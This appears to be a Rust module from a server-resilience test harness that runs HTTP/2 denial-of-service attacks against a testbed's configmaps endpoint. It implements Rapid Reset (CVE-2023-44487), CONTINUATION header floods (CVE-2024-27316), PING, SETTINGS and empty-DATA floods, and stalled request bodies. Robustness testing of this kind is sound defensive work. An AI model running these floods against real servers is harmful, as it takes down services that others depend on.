//! HTTP/2 that no client library would send.

use super::{AttackTally, at_once};
use crate::testbed::{TENANT, TENANTS, Testbed};
use crate::wire::{Wire, WireProtocol, frame, push_field, push_frame};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const CONFIG_MAPS: &str = "/api/v1/namespaces/tenant/configmaps";

/// A connection whose responses are read and dropped; `None` if refused.
async fn open(stage: &Testbed, tally: &AttackTally) -> Option<(Wire, Vec<u8>)> {
    let Ok(mut wire) = Wire::connect(stage, WireProtocol::Http2).await else {
        tally.count("refused");
        return None;
    };
    if wire.preface(&[]).await.is_err() {
        tally.count("cut");
        return None;
    }
    tally.count("connection");
    let block = wire.header_block("POST", CONFIG_MAPS, TENANT);
    Some((wire, block))
}

/// Writes frames while dropping what is received, until the server closes the connection.
async fn pour(
    wire: Wire,
    tally: &AttackTally,
    mut next: impl FnMut() -> Option<Vec<u8>>,
    pause: Duration,
) {
    let (mut read, mut write) = tokio::io::split(wire.stream);
    let reading = async {
        let mut buffer = vec![0; 64 * 1024];
        while matches!(read.read(&mut buffer).await, Ok(length) if length > 0) {}
    };
    let writing = async {
        while let Some(bytes) = next() {
            if write.write_all(&bytes).await.is_err() || write.flush().await.is_err() {
                return;
            }
            if !pause.is_zero() {
                tokio::time::sleep(pause).await;
            }
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
    tally.count("cut");
}

/// Anonymous requests without END_STREAM, 25 on each of ten connections per second.
pub(super) async fn endless_requests(
    stage: Arc<Testbed>,
    tally: Arc<AttackTally>,
    method: &'static str,
) {
    at_once(10, |_| async {
        let Some((wire, _)) = open(&stage, &tally).await else { return };
        let block = wire.header_block(method, CONFIG_MAPS, "");
        let mut stream = 1;
        let next = || {
            let mut bytes = Vec::new();
            push_frame(&mut bytes, frame::HEADERS, frame::END_HEADERS, stream, &block);
            stream += 2;
            Some(bytes)
        };
        pour(wire, &tally, next, Duration::from_millis(40)).await;
    })
    .await;
}

/// As many writes as the server accepts, none of them with a body.
pub(super) async fn silent_bodies(stage: Arc<Testbed>, tally: Arc<AttackTally>) {
    at_once(4, |_| async {
        let Some((wire, block)) = open(&stage, &tally).await else { return };
        let mut streams = (0..50).map(|index| {
            let mut bytes = Vec::new();
            push_frame(&mut bytes, frame::HEADERS, frame::END_HEADERS, 2 * index + 1, &block);
            bytes
        });
        pour(wire, &tally, || streams.next(), Duration::ZERO).await;
    })
    .await;
}

/// Bodies of eight callers that start and stall.
pub(super) async fn half_bodies(stage: Arc<Testbed>, tally: Arc<AttackTally>) {
    at_once(8, |index| {
        let (stage, tally) = (&stage, &tally);
        async move {
            let Some((wire, _)) = open(stage, tally).await else { return };
            let mut block = wire.header_block("POST", CONFIG_MAPS, TENANTS[index % 8]);
            push_field(&mut block, "content-type", "application/json");
            push_field(&mut block, "content-length", "3000000");
            let mut streams = (0..8).map(|index| {
                let mut bytes = Vec::new();
                push_frame(&mut bytes, frame::HEADERS, frame::END_HEADERS, 2 * index + 1, &block);
                push_frame(&mut bytes, frame::DATA, 0, 2 * index + 1, &[b' '; 9 * 1024]);
                bytes
            });
            pour(wire, tally, || streams.next(), Duration::ZERO).await;
        }
    })
    .await;
}

/// Requests reset in the same write (CVE-2023-44487).
pub(super) async fn rapid_reset(stage: Arc<Testbed>, tally: Arc<AttackTally>) {
    at_once(8, |_| async {
        let Some((wire, block)) = open(&stage, &tally).await else { return };
        let mut stream = 1;
        let next = || {
            let mut bytes = Vec::new();
            for _ in 0..50 {
                push_frame(&mut bytes, frame::HEADERS, frame::END_HEADERS, stream, &block);
                push_frame(&mut bytes, frame::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                stream += 2;
            }
            Some(bytes)
        };
        pour(wire, &tally, next, Duration::ZERO).await;
    })
    .await;
}

/// 1,000 PINGs.
pub(super) fn ping() -> Vec<u8> {
    let mut bytes = Vec::new();
    for _ in 0..1000 {
        push_frame(&mut bytes, frame::PING, 0, 0, &[0; 8]);
    }
    bytes
}

/// 1,000 SETTINGS.
pub(super) fn settings() -> Vec<u8> {
    let mut bytes = Vec::new();
    for _ in 0..1000 {
        push_frame(&mut bytes, frame::SETTINGS, 0, 0, &[]);
    }
    bytes
}

/// Repeats the frames on four connections.
pub(super) async fn flood(stage: Arc<Testbed>, tally: Arc<AttackTally>, frames: Vec<u8>) {
    at_once(4, |_| async {
        let Some((wire, _)) = open(&stage, &tally).await else { return };
        pour(wire, &tally, || Some(frames.clone()), Duration::ZERO).await;
    })
    .await;
}

/// Endless empty DATA frames.
pub(super) async fn empty_data(stage: Arc<Testbed>, tally: Arc<AttackTally>) {
    at_once(4, |_| async {
        let Some((wire, block)) = open(&stage, &tally).await else { return };
        let mut first = true;
        let next = || {
            let mut bytes = Vec::new();
            if std::mem::take(&mut first) {
                push_frame(&mut bytes, frame::HEADERS, frame::END_HEADERS, 1, &block);
            }
            for _ in 0..1000 {
                push_frame(&mut bytes, frame::DATA, 0, 1, &[]);
            }
            Some(bytes)
        };
        pour(wire, &tally, next, Duration::ZERO).await;
    })
    .await;
}

/// Endless header blocks (CVE-2024-27316 and similar).
pub(super) async fn continuation(stage: Arc<Testbed>, tally: Arc<AttackTally>) {
    let mut fields = Vec::new();
    for number in 0..100 {
        push_field(&mut fields, &format!("x-{number}"), "y");
    }
    at_once(4, |_| async {
        let Some((wire, block)) = open(&stage, &tally).await else { return };
        let mut first = true;
        let next = || {
            let mut bytes = Vec::new();
            if std::mem::take(&mut first) {
                push_frame(&mut bytes, frame::HEADERS, 0, 1, &block);
            }
            push_frame(&mut bytes, frame::CONTINUATION, 0, 1, &fields);
            Some(bytes)
        };
        pour(wire, &tally, next, Duration::ZERO).await;
    })
    .await;
}
